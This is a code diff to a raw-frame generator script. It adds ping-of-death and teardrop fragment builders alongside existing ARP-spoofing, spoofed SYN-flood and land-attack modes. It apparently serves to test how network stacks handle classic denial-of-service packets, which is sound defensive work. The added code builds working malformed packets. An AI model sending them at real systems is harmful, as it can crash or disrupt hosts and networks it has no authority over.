@@ -6,6 +6,8 @@
     frames.py arp-replies IFACE MAC ADDRESS COUNT   unsolicited replies to ADDRESS at MAC
     frames.py syn-flood IFACE MAC ADDRESS PORT COUNT   SYNs from COUNT spoofed sources in 198.19.0.0/16
     frames.py land IFACE MAC ADDRESS PORT        a SYN from ADDRESS and PORT to themselves
+    frames.py ping-of-death IFACE MAC ADDRESS    a last fragment that ends beyond 65,535
+    frames.py teardrop IFACE MAC ADDRESS         two fragments that overlap
 """
 import ipaddress
 import random
@@ -38,13 +40,25 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
+def packet(target_mac, source, target, protocol, flags_offset, payload):
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 4711, flags_offset, 64, protocol, 0) + source + target
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return target_mac + OTHER + b"\x08\x00" + ip + payload
+
+
+MORE = 0x2000
+
+
+def fragment(args, flags, offset, length):
+    """A piece of an echo request from the host's address; offset and length in bytes."""
+    return packet(mac(args[0]), address("198.18.0.1"), address(args[1]), 1, flags | offset // 8, bytes(length))
+
+
 def syn(target_mac, source, port, target, target_port):
     tcp = struct.pack("!HHIIBBHHH", port, target_port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
     pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
     tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + target
-    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    return target_mac + OTHER + b"\x08\x00" + ip + tcp
+    return packet(target_mac, source, target, 6, 0x4000, tcp)
 
 
 def numbered_mac(i):
@@ -69,6 +83,11 @@ def frames(what, args):
             yield syn(mac(args[0]), source, random.randrange(1024, 65536), address(args[1]), int(args[2]))
     elif what == "land":
         yield syn(mac(args[0]), address(args[1]), int(args[2]), address(args[1]), int(args[2]))
+    elif what == "ping-of-death":
+        yield fragment(args, 0, 65528, 64)
+    elif what == "teardrop":
+        yield fragment(args, MORE, 0, 64)
+        yield fragment(args, 0, 32, 64)
     else:
         sys.exit(__doc__)
 
